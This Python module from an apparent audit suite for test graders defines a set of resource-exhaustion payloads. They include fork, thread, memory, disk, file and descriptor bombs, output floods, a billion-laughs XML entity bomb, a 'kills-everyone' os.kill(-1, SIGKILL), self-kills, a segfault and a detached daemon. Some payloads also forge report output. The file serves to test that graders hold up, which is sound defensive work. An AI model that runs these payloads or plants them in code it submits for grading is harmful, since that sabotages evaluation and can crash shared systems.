"""Class F: taking what a grader needs. Nobody pays for it; it must fail and harm nothing."""

from __future__ import annotations

from deepgym_envs.audit.payloads.payload import Payload, at_import
from deepgym_envs.audit.payloads.tricks import FORGE
from deepgym_envs.audit.target import Files, Target

_BOMB = (
    '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><testsuites>&c;</testsuites>'
)


def _xml_bomb(target: Target) -> Files:
    return {**target.at_import("import os\nos._exit(0)\n"), "report.xml": _BOMB.encode()}


def _bomb(name: str, summary: str, code: str) -> Payload:
    return at_import(name, "F", summary, code, robustness=True)


EXHAUSTION = (
    _bomb("hang", "never ends", "while True:\n    pass\n"),
    _bomb("sleep", "waits for ever, without work", "import time\nwhile True:\n    time.sleep(60)\n"),
    _bomb("fork-bomb", "forks until nothing can be forked",
          "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"),
    _bomb("thread-bomb", "starts threads until none can be started",
          "import threading, time\ntry:\n    while True:\n"
          "        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
          "except BaseException:\n    pass\n"),
    _bomb("memory-bomb", "takes all memory", "kept = []\nwhile True:\n    kept.append(bytearray(1 << 20))\n"),
    _bomb("disk-bomb", "fills the disk",
          "try:\n    with open('full', 'wb', 0) as file:\n        for _ in range(4096):\n"
          "            file.write(b'x' * (1 << 20))\nexcept OSError:\n    pass\n"),
    _bomb("file-bomb", "makes many empty files",
          "try:\n    for number in range(20000):\n        open('empty-%d' % number, 'w').close()\n"
          "except OSError:\n    pass\n"),
    _bomb("descriptor-bomb", "opens all descriptors that there are",
          "import os\nkept = []\ntry:\n    while len(kept) < 100000:\n        kept.append(os.dup(0))\n"
          "except OSError:\n    pass\n"),
    _bomb("output-flood", "prints more than anybody wants to read",
          "import os\nfor _ in range(200):\n    os.write(2, b'x' * 1000000)\n"),
    _bomb("odd-output", "prints bytes that are no text, on one line",
          "import os\nos.write(1, b'\\x00\\xff\\xfe\\x1b]0;' * 200000)\n"),
    _bomb("report-flood", "writes more than a report can be", FORGE + "send(b'{}\\n' * 4000000)\n"),
    _bomb("deep-report", "writes JSON that is nested too deeply", FORGE + "send(b'[' * 150000 + b'\\n')\n"),
    _bomb("closed-descriptors", "closes everything that is open", "import os\nos.closerange(0, 256)\n"),
    _bomb("killed", "kills itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
    _bomb("kills-everyone", "kills all that it may",
          "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n"),
    _bomb("segfault", "reads where no memory is", "import ctypes\nctypes.string_at(0)\n"),
    _bomb("stopped", "stops itself, as a terminal would",
          "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"),
    _bomb("recursion", "recurses without end",
          "import sys\nsys.setrecursionlimit(1 << 30)\ndef deeper():\n    deeper()\ndeeper()\n"),
    _bomb("daemon", "leaves a process behind that keeps all streams open",
          "import os\nif os.fork() == 0:\n    os.setsid()\n    while True:\n        pass\n"),
    Payload("xml-bomb", "F", "a report whose few bytes stand for many", _xml_bomb),
)  # fmt: skip
"""All payloads of class F."""
